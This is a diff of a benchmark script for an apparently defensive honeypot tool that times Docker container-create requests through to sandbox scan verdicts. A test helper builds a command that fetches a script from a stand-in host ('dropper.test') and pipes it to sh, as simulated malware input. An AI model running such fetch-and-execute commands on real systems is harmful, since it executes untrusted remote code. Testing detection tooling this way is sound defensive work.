@@ -6,8 +6,9 @@
    honeypot` process, a real `detonate honeypot-worker` process (poll 0.5 s) and the real
    sandbox, over SQLite; the image (the bundled `benign-web`) in a local `docker-registry`.
    Each round deploys a new command (a new scan), timed from the create request until the
-   scan is done in the store. Peer, interleaved: `pipeline.scan` of the same image and command
-   in this process, on the same warm cache — what the honeypot, the queue and the worker add.
+   scan is done in the store; round 0 (pull, unpack, the worker's first scan) is not counted.
+   Peer, interleaved: `pipeline.scan` of the same image and command in this process, on the
+   same warm cache — what the honeypot, the queue and the worker add.
 2. `detonate report` over N sessions (one deployment in ten) and M finished scans (two
    findings and two IOCs each) on SQLite and on a real PostgreSQL (tests/postgres.py): the
    figures with the Markdown page, the STIX bundle and the MISP event.
@@ -65,14 +66,16 @@ def command(n: int) -> list[str]:
     return ["sh", "-c", f"echo round {n}; wget -qO- http://dropper.test/x.sh | sh"]
 
 
-def wait_done(store: Store, deadline: float) -> str:
-    """The first queued-by-honeypot scan's verdict once done (polls the store every 20 ms)."""
+def wait_done(store: Store, count: int, deadline: float) -> str:
+    """The verdict of the newest scan once `count` scans are done (polls the store every 20 ms)."""
     while time.monotonic() < deadline:
-        for record in store.list_scans():
-            if record.status is ScanStatus.DONE:
-                return record.verdict or "?"
-            if record.status is ScanStatus.FAILED:
-                raise RuntimeError(f"scan failed: {record.reason}")
+        scans = store.list_scans()
+        failed = [r for r in scans if r.status is ScanStatus.FAILED]
+        if failed:
+            raise RuntimeError(f"scan failed: {failed[0].reason}")
+        done = sorted((r for r in scans if r.status is ScanStatus.DONE), key=lambda r: r.created_at)
+        if len(done) >= count:
+            return done[-1].verdict or "?"
         time.sleep(0.02)
     raise TimeoutError("no verdict in time")
 
@@ -86,47 +89,43 @@ def create_to_verdict(rounds: int, work: Path) -> None:
         image = f"{registry.host}/benign-web"
         cache = work / "cache"
         env = {**os.environ, "PYTHONUNBUFFERED": "1"}
+        db = f"sqlite:///{work / 'honeypot.db'}"
+        honeypot = subprocess.Popen(
+            [sys.executable, "-m", "detonate", "honeypot", "--db", db, "--ports", "0"],
+            stderr=subprocess.PIPE,
+            text=True,
+            env=env,
+        )
+        processes.append(honeypot)
+        assert honeypot.stderr is not None
+        line = honeypot.stderr.readline().strip()
+        port = int(re.findall(r":(\d+)$", line)[0])
+        worker = subprocess.Popen(
+            [
+                *(sys.executable, "-m", "detonate", "honeypot-worker", "--db", db),
+                *("--cache-dir", str(cache), "--poll", str(WORKER_POLL)),
+                *("--timeout", str(RUN_TIMEOUT), "--allow-registry", registry.host),
+                "--unsafe-skip-tls-verify",
+            ],
+            stdout=subprocess.DEVNULL,
+            stderr=subprocess.DEVNULL,
+            env=env,
+        )
+        processes.append(worker)
         peer_options = ScanOptions(
             cache_dir=cache,
             acquire=AcquireOptions(tls_verify=False),
             sandbox=SandboxOptions(timeout_seconds=RUN_TIMEOUT),
         )
+        store = Store.open(db)
+        assert post(port, f"/v1.41/images/create?fromImage={image}&tag=1") == 200
         through, direct, verdicts = [], [], []
-        for n in range(rounds + 1):  # round 0 warms the cache (pull, unpack), not counted
-            db = f"sqlite:///{work / f'round-{n}.db'}"  # one scan per store: "done" is ours
-            honeypot = subprocess.Popen(
-                [sys.executable, "-m", "detonate", "honeypot", "--db", db, "--ports", "0"],
-                stderr=subprocess.PIPE,
-                text=True,
-                env=env,
-            )
-            processes.append(honeypot)
-            assert honeypot.stderr is not None
-            port = int(re.findall(r":(\d+)$", honeypot.stderr.readline().strip())[0])
-            worker = subprocess.Popen(
-                [
-                    *(sys.executable, "-m", "detonate", "honeypot-worker", "--db", db),
-                    *("--cache-dir", str(cache), "--poll", str(WORKER_POLL)),
-                    *("--timeout", str(RUN_TIMEOUT), "--allow-registry", registry.host),
-                    "--unsafe-skip-tls-verify",
-                ],
-                stdout=subprocess.DEVNULL,
-                stderr=subprocess.DEVNULL,
-                env=env,
-            )
-            processes.append(worker)
-            time.sleep(1.0)  # both up (imports) before the clock starts
-            assert post(port, f"/v1.41/images/create?fromImage={image}&tag=1") == 200
-            store = Store.open(db)
+        for n in range(rounds + 1):  # round 0 warms the cache and the worker, not counted
             started = time.monotonic()
             create = {"Image": f"{image}:1", "Cmd": command(n), "User": "root"}
             assert post(port, "/v1.41/containers/create", create) == 201
-            verdict = wait_done(store, started + 300)
+            verdict = wait_done(store, n + 1, started + 300)
             took = time.monotonic() - started
-            store.close()
-            for process in (worker, honeypot):
-                process.terminate()
-                process.wait(timeout=60)
 
             sandbox = replace(peer_options.sandbox, cmd=tuple(command(n)))
             started = time.monotonic()
@@ -137,6 +136,7 @@ def create_to_verdict(rounds: int, work: Path) -> None:
                 direct.append(peer)
                 verdicts.append(f"{verdict}/{report.verdict.value}")
             print(f"  round {n}: create→verdict {took:.2f} s, direct scan {peer:.2f} s ({verdict})")
+        store.close()
         median, peer_median = statistics.median(through), statistics.median(direct)
         print(
             f"create→verdict in the store, median of {rounds}: {median:.2f} s; direct "
@@ -144,10 +144,14 @@ def create_to_verdict(rounds: int, work: Path) -> None:
             f"verdicts (honeypot/direct) {sorted(set(verdicts))}"
         )
     finally:
-        for process in processes:
+        for process in reversed(processes):
             if process.poll() is None:
-                process.kill()
-                process.wait()
+                process.terminate()
+                try:
+                    process.wait(timeout=60)
+                except subprocess.TimeoutExpired:
+                    process.kill()
+                    process.wait()
         stop_registry(registry)
 
 
